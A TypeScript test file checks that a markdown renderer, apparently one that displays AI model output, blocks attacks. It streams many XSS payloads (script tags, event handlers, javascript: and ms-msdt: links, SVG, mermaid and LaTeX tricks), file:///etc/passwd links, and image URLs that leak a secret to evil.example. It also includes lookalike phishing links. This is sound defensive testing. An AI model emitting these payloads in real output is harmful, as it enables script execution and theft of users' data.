import { expect, test } from "vitest";
import { openStage } from "./markdown-stage.ts";
import { serveRenderer } from "./open-renderer.ts";

/*
 * Text of a model, a page or a file, as an attacker would write it: streamed, cut at every character, and from history.
 * Nothing runs, nothing loads, nothing leads anywhere but where http, https and mailto lead, and that only through main.
 */

/** Every request of the page but those to the server that serves it. */
const outside: string[] = [];

const server = await serveRenderer();
const stage = await openStage(server);
const own = new URL(stage.page.url()).origin;
await stage.page.context().route(
  (url) => url.origin !== own,
  (route) => {
    outside.push(route.request().url());
    return route.abort();
  },
);
stage.page.on("dialog", (dialog) => {
  outside.push(`dialog ${dialog.message()}`);
  void dialog.dismiss();
});
stage.page.context().on("page", (page) => outside.push(`window ${page.url()}`));

const run = "window.wasRun=1";
const payloads: Readonly<Record<string, readonly string[]>> = {
  "1, CVE-2026-32626: broken out of an image": [
    `![" onerror="${run}](x)`,
    `![x](x" onerror="${run})`,
    `![x](x "t" onerror="${run}")`,
    `![x]("onerror="${run}")\n\n![a](javascript:${run})`,
  ],
  "2, CVE-2024-3166: HTML": [
    `<script>${run}</script>`,
    `<img src=x onerror=${run}>`,
    `text <svg/onload=${run}> text`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<details open ontoggle=${run}><summary>x</summary></details>`,
    `<a href="javascript:${run}">x</a>`,
    `<form action="javascript:${run}"><button>x</button></form>`,
    `<style>@import "https://evil.example/x.css";</style>`,
    `<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">`,
    `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
    `- <div\n  onclick="${run}"\n  style="position:fixed">x</div>`,
    `| <img src=x onerror=${run}> |\n|---|\n| <object data="https://evil.example/x"> |`,
  ],
  "3, CVE-2025-47777: other ways out": [
    "[a](file:///etc/passwd) [b](smb://evil.example/x) <file:///etc/passwd>",
    `\`\`\`html\n<script>window.open('file:///')</script>\n\`\`\``,
    `\`\`\`"><script>${run}</script>\nx\n\`\`\``,
  ],
  "4, CVE-2025-55733: links that start programs": [
    `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java\u0001script:${run}) [d](&#106;avascript:${run})`,
    "[a](calculator://) [b](ms-msdt:/id) [c](steward://settings) [d](vbscript:x) <ms-msdt:x>",
    `[a]: javascript:${run}\n\n[a] [x][a] ![y][a]`,
    `[a](data:text/html,<script>${run}</script>) [b](//evil.example/x) [c](/etc/passwd) [d](#x)`,
    `[^a]\n\n[^a]: [x](javascript:${run})`,
  ],
  "5, CVE-2025-67744: pictures that are programs": [
    `![x](data:image/svg+xml,<svg onload=${run}>)`,
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"]; click A call ${run}\n\`\`\``,
    `\`\`\`svg\n<svg onload="${run}"/>\n\`\`\``,
    String.raw`$\href{javascript:${run}}{x}$ $\url{https://evil.example}$ $\includegraphics{https://evil.example/x}$`,
    String.raw`$$\htmlStyle{background:url(https://evil.example)}{x} \htmlData{a=b}{x} \unicode{x}$$`,
    String.raw`$$\def\a{\a\a}\a$$ $\text{<script>${run}</script>}$`,
  ],
  "9: a secret in an address": [
    "![a](https://evil.example/?q=SECRET)",
    "![a][x]\n\n[x]: https://evil.example/?q=SECRET",
    "[![a](https://evil.example/i.png?q=SECRET)](https://evil.example/?q=SECRET)",
    "<img src='https://evil.example/?q=SECRET'>",
    "https://evil.example/?q=SECRET and [x](https://evil.example/?q=SECRET)",
  ],
};

for (const [name, texts] of Object.entries(payloads)) {
  test(name, { timeout: 180_000 }, async () => {
    const pieces = texts.flatMap((text) => [[text], [...text], ["before\n\n", ...text, "\n\nafter"]]);
    const drawn = await stage.streamAll(pieces);
    expect(drawn.flatMap(({ forbidden }) => forbidden)).toEqual([]);
    const hovered = stage.page.locator("main [role=link]").first();
    if ((await hovered.count()) > 0) await hovered.hover();
    expect(await stage.page.evaluate("window.wasRun")).toBeUndefined();
    expect(outside).toEqual([]);
    expect(stage.requests.filter(({ name: asked }) => asked === "link.open")).toEqual([]);
  });
}

test("the look-out sees what it looks for", async () => {
  await stage.stream(["text"]);
  const seen = await stage.page.evaluate(`(() => {
    const template = document.createElement("div");
    template.setAttribute("onclick", "x");
    template.append(document.createElement("iframe"), document.createElement("svg"));
    document.querySelector("main").append(template);
    return stage.forbiddenNow();
  })()`);
  expect(seen).toEqual(["onclick", "<iframe>", "<svg>"]);
});

test("a link is opened by main, with its whole address, and only http, https and mailto are links", async () => {
  await stage.stream([
    "[manual](https://example.org/a?b=c#d) <mailto:ana@example.org> [app](ms-msdt:x) [file](file:///x)",
  ]);
  const links = stage.page.getByRole("link");
  expect(await links.allTextContents()).toEqual(["manual", "mailto:ana@example.org"]);
  await links.first().click();
  await links.first().click({ button: "middle" });
  await links.first().click({ modifiers: ["Control"] });
  await links.last().press("Enter");
  expect(stage.requests.filter(({ name }) => name === "link.open").map(({ input }) => input)).toEqual([
    { href: "https://example.org/a?b=c#d" },
    { href: "https://example.org/a?b=c#d" },
    { href: "mailto:ana@example.org" },
  ]);
  expect(stage.page.context().pages()).toHaveLength(1);
  expect(outside).toEqual([]);
});

test("a link shows where it leads, most of all where its text says something else", async () => {
  await stage.stream([
    "[bank.example](https://evil.example/x) [www.bank.example/a](https://bank.example/b) [b\u200Bank.example](https://evil.example/y) [раypal.com](https://paypal.com/)",
  ]);
  const text = await stage.page.locator("main").innerText();
  expect(text).toContain("bank.example (https://evil.example/x)");
  expect(text).not.toContain("(https://bank.example/b)");
  expect(text).toContain("(https://evil.example/y)");
  expect(text).toContain("(https://paypal.com/)");
  const link = stage.page.getByRole("link", { name: "www.bank.example/a" });
  await link.focus();
  expect(
    await stage.page.evaluate(
      "getComputedStyle(document.activeElement, '::after').content + document.activeElement.getAttribute('aria-description')",
    ),
  ).toBe('"https://bank.example/b"https://bank.example/b');
});

test("a picture is a chip with its address, which can be opened as a link", async () => {
  await stage.stream([
    "![a cat](https://example.org/cat.png) and ![local](cat.png) and ![x](data:image/png;base64,AA==)",
  ]);
  expect(await stage.page.locator("main").innerText()).toContain("Image: a cat");
  expect(await stage.page.getByRole("link").count()).toBe(1);
  const before = stage.requests.length;
  await stage.page.getByRole("link").click();
  expect(stage.requests.slice(before)).toEqual([
    { name: "link.open", input: { href: "https://example.org/cat.png" } },
  ]);
  expect(outside).toEqual([]);
});
